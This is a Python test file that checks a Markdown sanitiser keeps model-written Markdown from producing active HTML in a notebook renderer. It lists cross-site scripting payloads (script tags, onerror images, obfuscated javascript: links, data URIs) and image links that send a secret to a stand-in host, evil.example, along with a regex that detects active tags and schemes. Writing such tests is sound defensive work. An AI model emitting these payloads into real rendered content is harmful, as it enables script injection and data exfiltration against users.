"""Model-written Markdown does nothing but show text, in a renderer that trusts it blindly."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from zidane_lab.notebook.markdown import plain_markdown, safe_markdown

ACTIVE = re.compile(
    r"<(?:script|img|iframe|svg|style|object|embed|form|input|video|audio|link|meta|base|b|x)\b"
    r"|(?:href|src)\s*=\s*[\"']?\s*(?:javascript|vbscript|data|file):",
    re.IGNORECASE,
)

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![pixel](http://evil.example/?q=secret)",
    "![pixel][r]\n\n[r]: http://evil.example/x.png",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](javascript\\:alert(1))",
    "[click](\n javascript:alert(1))",
    "[r]: javascript:alert(1)\n\n[click][r]",
    "<javascript:alert(1)>",
    "foo `bar\n`<img src=x> baz",
    "# head `x\n`<img src=x>`",
    "`x\n# <img src=x> `",
    "\\`<img src=x>\\`",
    "- a\n  ```\n<img src=x>\n  ```",
    "```\ncode\n````\n<img src=x>",
    "``` a`b\n<img src=x>\n```",
    "~~~\n```\n~~~\n<img src=x>",
    "> ```\n<img src=x>",
    "    ```\n<img src=x>\n    ```",
    "``<img src=x>`",
    "text\n<div>\n*hi*\n</div>",
    "[a](<javascript:alert(1)>)",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "$<img src=x>$",
    "\\<img src=x>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_come_out_as_text(attack):
    rendered = markdown2html_mistune(safe_markdown(attack))
    assert not ACTIVE.search(re.sub(r"<(?:code|pre)[^>]*>.*?</(?:code|pre)>", "", rendered, flags=re.DOTALL)), rendered


@given(
    st.lists(
        st.sampled_from(
            [
                "`",
                "``",
                "```",
                "~~~",
                "\n",
                "\n\n",
                "<img src=x>",
                "a",
                "\\",
                "# ",
                "- ",
                "> ",
                "    ",
                "  ",
                "[x](",
                ")",
                "javascript:",
                "![",
            ]
        ),
        max_size=25,
    ).map("".join)
)
@settings(max_examples=400, deadline=None)
def test_no_mixture_of_marks_brings_a_tag_to_life(text):
    rendered = markdown2html_mistune(safe_markdown(text))
    assert "<img" not in rendered, safe_markdown(text)


@pytest.mark.parametrize(
    "text",
    [
        "Plain **bold** and `a < b` and `<div>` here.",
        "```html\n<img src=x>\n```",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "[docs](https://pandas.pydata.org/) and `![not an image]`",
    ],
)
def test_harmless_text_is_left_alone(text):
    assert safe_markdown(text) == text


def test_prose_that_names_a_scheme_is_left_alone():
    assert safe_markdown("I like JavaScript: it is fine. The data: three files.").startswith("I like JavaScript: it")


def test_comparisons_still_read_as_written():
    assert "a &lt; b" in markdown2html_mistune(safe_markdown("if a < b then"))


def test_an_open_fence_is_closed():
    assert safe_markdown("```python\nx = 1") == "```python\nx = 1\n```"


def test_plain_markdown_shows_names_literally():
    rendered = markdown2html_mistune(plain_markdown("a*b*_c_ <i>[x](y)`z`"))
    assert "<em>" not in rendered
    assert "<code>" not in rendered
    assert "&lt;i&gt;" in rendered


@pytest.mark.parametrize(
    "text",
    [
        "[x](`)<img src=x>`",
        "[x](()`)<img src=x>`",
        r"[x](\)`)<img src=x>`",
        "[x]: `<img src=x>`",
        "[x](a `b` `)<img src=x>`",
    ],
)
def test_a_link_that_swallows_a_backtick_frees_no_tag(text):
    assert "<img" not in markdown2html_mistune(safe_markdown(text))
    assert "<img" not in safe_markdown(text)


def test_code_behind_a_link_keeps_its_characters():
    assert safe_markdown("[x](a) and `a < b`") == "[x](a) and `a < b`"
